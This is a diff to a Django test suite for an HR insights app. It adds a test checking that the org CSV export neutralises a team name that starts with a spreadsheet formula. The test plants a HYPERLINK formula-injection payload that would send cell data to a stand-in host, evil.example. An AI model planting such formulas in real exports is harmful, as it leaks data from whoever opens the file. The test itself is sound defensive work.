@@ -11,7 +11,7 @@ from django.apps import apps
 
 from connection.alerts import send_alerts, send_quiet_notes, team_situation
 from connection.insights import compute_week, monday
-from connection.models import ConversationGuide, Nudge, OrgSettings, Signal, TeamWeek
+from connection.models import ConversationGuide, Nudge, OrgSettings, Signal, Team, TeamWeek
 from pulse.services import close_round, open_round, submit_response
 from tests.helpers import make_team, make_user
 
@@ -473,3 +473,13 @@ def test_hr_pages_through_a_level_of_many_teams(org, client_for, hana, departmen
     assert far.status_code == 302 and far.url.endswith("page=2")
     csv_text = client.get(f"/insights/org.csv?level={level}").content.decode()
     assert "Squad 00" in csv_text and "Squad 44" in csv_text
+
+
+def test_hr_insights_export_escapes_a_formula_team_name(org, client_for, hana, other_team):
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Team.objects.filter(pk=other_team.pk).update(name=hostile)
+    response = client_for(hana).get("/insights/org.csv?level=0")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    names = [row[1] for row in rows[1:] if len(row) > 3]
+    assert "'" + hostile in names
+    assert hostile not in names
